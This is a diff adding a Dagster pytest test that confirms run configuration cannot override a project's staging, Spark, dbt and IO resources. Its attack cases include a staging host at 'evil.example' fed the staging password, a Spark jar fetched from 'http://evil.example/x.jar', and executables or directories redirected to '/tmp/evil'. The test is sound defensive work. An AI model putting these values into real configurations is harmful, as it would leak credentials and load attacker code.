@@ -151,3 +151,26 @@ def test_workspace_and_project_name_the_same_code_location():
     module = entry["python_module"]
     assert module["location_name"] == project["code_location_name"]
     assert module["module_name"] == project["code_location_target_module"]
+
+
+def test_run_configuration_changes_no_resource():
+    """A run's configuration could send a password, or a program of Spark's, to another place."""
+    from softcart_assets.definitions import defs
+
+    repository = defs().get_repository_def()
+    resources = repository.get_top_level_resources()
+    assert {"staging", "production", "spark", "dbt", "io_manager"} <= set(resources)
+    for name, resource in resources.items():
+        assert resource.config_schema.config_type.fields == {}, name
+    job = repository.get_implicit_global_asset_job_def()
+    for name, attack in {
+        "staging": {"prefix": "SOFTCART_EVIL"},
+        "staging ": {"host": "evil.example", "password": {"env": "SOFTCART_STAGING_PASSWORD"}},
+        "spark": {"spark_config": {"spark.jars": "http://evil.example/x.jar"}},
+        "dbt": {"dbt_executable": "/tmp/evil"},
+        "io_manager": {"base_dir": "/tmp/evil"},
+    }.items():
+        with pytest.raises(dg.DagsterInvalidConfigError, match="unexpected config entr"):
+            dg.validate_run_config(job, {"resources": {name.strip(): {"config": attack}}})
+    found = dg.validate_run_config(job, {})["resources"]
+    assert found["staging"] == {"config": {"prefix": "SOFTCART_STAGING"}}
